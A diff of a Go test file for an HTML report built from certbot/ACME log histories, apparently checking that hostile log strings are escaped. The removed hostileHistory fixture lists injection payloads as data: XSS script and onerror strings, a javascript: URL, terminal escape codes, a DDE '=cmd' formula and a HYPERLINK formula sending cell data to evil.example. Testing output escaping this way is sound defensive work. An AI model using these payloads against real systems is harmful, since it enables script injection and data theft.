@@ -1,4 +1,4 @@
-package main
+package leaks
 
 import (
 	"bytes"
@@ -135,15 +135,12 @@ func (b *browser) drive(page []byte, driver string) (map[string]any, *site) {
 	return result, s
 }
 
-// page runs leaks --html and returns the page.
-func (b *bench) page(args ...string) []byte {
-	b.t.Helper()
-	file := b.path("page.html")
-	r := b.run(append([]string{"--quiet", "leaks", "--html", file}, args...)...)
-	require.Equal(b.t, exitOK, r.code, r.stderr)
-	data, err := os.ReadFile(file)
-	require.NoError(b.t, err)
-	return data
+// page is the report as a page.
+func pageOf(t *testing.T, h *logparse.History) []byte {
+	t.Helper()
+	var out bytes.Buffer
+	require.NoError(t, New(h).WriteHTML(&out, "leaks (test)"))
+	return out.Bytes()
 }
 
 func list2(v any) (all []string) {
@@ -157,8 +154,7 @@ func list2(v any) (all []string) {
 // address, sorted, filtered and opened.
 func TestPage(t *testing.T) {
 	chromium := newBrowser(t)
-	b := fleetBench(t)
-	result, _ := chromium.drive(b.page(b.path("fleet")), `
+	result, _ := chromium.drive(pageOf(t, fleetHistory(t)), `
 		await load("");
 		result.headline = texts("h1")[0];
 		result.tiles = texts(".tile b");
@@ -239,9 +235,9 @@ func dedupe(sorted []string) (all []string) {
 // and dark, wide and narrow.
 func TestPageFile(t *testing.T) {
 	chromium := newBrowser(t)
-	b := fleetBench(t)
-	b.page(b.path("fleet"))
-	url := "file://" + b.path("page.html")
+	file := filepath.Join(t.TempDir(), "page.html")
+	require.NoError(t, os.WriteFile(file, pageOf(t, fleetHistory(t)), 0o600))
+	url := "file://" + file
 	dom := chromium.run(url+"#verdict=leaked&sort=identifier&dir=desc", "--dump-dom")
 	require.Equal(t, 27, strings.Count(dom, `<tr class="row">`))
 	require.Less(t, strings.Index(dom, "q2.rl.example.com</button>"), strings.Index(dom, "bad.twice.example.com</button>"))
@@ -262,12 +258,11 @@ func brightness(picture image.Image) float64 {
 // stays text, and the page asks for nothing, also if something in it wanted to.
 func TestHostilePage(t *testing.T) {
 	chromium := newBrowser(t)
-	var out bytes.Buffer
-	require.NoError(t, writeLeaksHTML(&out, newLeakReport(hostileHistory())))
+	page := pageOf(t, hostileHistory())
 	for _, c := range []string{"\x1b", "\u009b", "\u202e", "\u2028", "<img", "</script><script>window"} {
-		require.False(t, strings.Contains(out.String(), c), "%q", c)
+		require.False(t, bytes.Contains(page, []byte(c)), "%q", c)
 	}
-	result, s := chromium.drive(out.Bytes(), `
+	result, s := chromium.drive(page, `
 		await load("#verdict=all");
 		result.rows = rows();
 		for (const b of all("tbody tr.row button")) b.click();
@@ -302,12 +297,11 @@ func TestHostilePage(t *testing.T) {
 // which are in the document at a time.
 func TestLargePage(t *testing.T) {
 	chromium := newBrowser(t)
-	var out bytes.Buffer
-	require.NoError(t, writeLeaksHTML(&out, newLeakReport(largeHistory(10_000))))
+	page := pageOf(t, largeHistory(10_000))
 	if dir := os.Getenv("LEAKS_PAGES"); dir != "" {
-		require.NoError(t, os.WriteFile(filepath.Join(dir, "large.html"), out.Bytes(), 0o600))
+		require.NoError(t, os.WriteFile(filepath.Join(dir, "large.html"), page, 0o600))
 	}
-	result, _ := chromium.drive(out.Bytes(), `
+	result, _ := chromium.drive(page, `
 		await load("#verdict=all&sort=identifier&dir=asc");
 		result.rows = rows().length;
 		result.first = rows()[0];
@@ -327,72 +321,4 @@ func TestLargePage(t *testing.T) {
 	require.Equal(t, "page 100 of 100← previous", result["pages"])
 	require.Equal(t, []string{"name-09999.d099.example"}, list2(result["found"]))
 	require.Greater(t, result["buckets"], 5.0)
-}
-
-// largeHistory has n authorizations of many hosts and runs over half a year.
-func largeHistory(n int) *logparse.History {
-	h := &logparse.History{At: recordedAt}
-	start := recordedAt.AddDate(0, -6, 0)
-	for i := range n {
-		at := start.Add(time.Duration(i) * 26 * time.Minute)
-		host := fmt.Sprintf("web%02d", i/50%20)
-		run := logparse.Place{File: host + "/letsencrypt.log", Line: int64(i/5*100 + 1)}
-		e := logparse.Event{
-			Place: run, Run: run, Time: at, Client: "certbot", Host: host, Kind: logparse.RunStarted, Version: "2.1.0",
-			Command: fmt.Sprintf("certonly -d name-%05d.d%03d.example", i, i%100),
-		}
-		h.Add(e)
-		url := fmt.Sprintf("https://ca.test/acme/authz/1/%d", i)
-		id := logparse.Identifier{Type: "dns", Value: fmt.Sprintf("name-%05d.d%03d.example", i, i%100)}
-		e.Kind, e.Line = logparse.OrderSeen, e.Line+1
-		e.Order = &logparse.Order{ID: url + "/order", URL: url + "/order", Status: "pending", Identifiers: []logparse.Identifier{id}, Authorizations: []string{url}}
-		h.Add(e)
-		e.Kind, e.Line, e.Order = logparse.AuthorizationSeen, e.Line+1, nil
-		e.Authorization = &logparse.Authorization{URL: url, Order: url + "/order", Identifier: id, Status: "pending", Expires: recordedAt.AddDate(0, 0, 7)}
-		h.Add(e)
-		if i%7 != 0 {
-			e.Kind, e.Line, e.Challenge = logparse.ChallengeAnswered, e.Line+1, &logparse.Challenge{Type: "http-01"}
-			h.Add(e)
-			status := *e.Authorization
-			status.Status = []string{"valid", "valid", "valid", "invalid"}[i%4]
-			e.Kind, e.Line, e.Authorization, e.Challenge = logparse.AuthorizationSeen, e.Line+1, &status, nil
-			h.Add(e)
-		}
-	}
-	return h
-}
-
-// hostileHistory has strings that want to be markup, script, formulas, or orders
-// to a terminal.
-func hostileHistory() *logparse.History {
-	h := &logparse.History{At: recordedAt}
-	at := recordedAt.Add(-5 * time.Hour)
-	for i, name := range []string{
-		"</script><script>window.pwned=1</script>",
-		"\x1b[2J\x1b]0;owned\x07\u202eevil.example\u2028\u009b31m",
-		`=HYPERLINK("http://evil.example/?"&A1,"x")`,
-		"\xff\xfe\"><img src=/leak onerror=window.pwned=1>,\r\n@SUM(1)",
-	} {
-		run := logparse.Place{File: "=cmd|' /C calc'!A0/\x1b[31m.log", Line: int64(i*10 + 1)}
-		e := logparse.Event{
-			Place: run, Run: run, Time: at, Client: "+certbot", Host: "-host<b>", Kind: logparse.RunStarted, Version: "\x1b[5m",
-			Command: "<img src=x onerror=window.pwned=1> \x1b[31m </script>",
-		}
-		h.Add(e)
-		url := fmt.Sprintf("https://ca.test/acme/authz/1/%d", i)
-		id := logparse.Identifier{Type: "dns", Value: name}
-		e.Kind, e.Line = logparse.OrderSeen, e.Line+1
-		e.Order = &logparse.Order{ID: url + "/o", URL: "javascript:window.pwned=1", Identifiers: []logparse.Identifier{id}, Authorizations: []string{url}}
-		h.Add(e)
-		e.Kind, e.Line, e.Order = logparse.AuthorizationSeen, e.Line+1, nil
-		e.Authorization = &logparse.Authorization{URL: url, Order: url + "/o", Identifier: id, Status: "pending"}
-		h.Add(e)
-		e.Kind, e.Line, e.Authorization = logparse.FailureSeen, e.Line+1, nil
-		e.Cause, e.Message = logparse.Cause("<b>odd\x1b[0m"), "@message </script> \x1b[2J {{.}}"
-		h.Add(e)
-		e.Kind, e.Line, e.Cause, e.Exit = logparse.RunEnded, e.Line+1, "", "=exit"
-		h.Add(e)
-		h.Add(logparse.Event{Kind: logparse.LinesUnrecognized, Place: logparse.Place{File: "\x1b[1m", Line: 1}, Lines: 2})
-	}
-	return h
 }
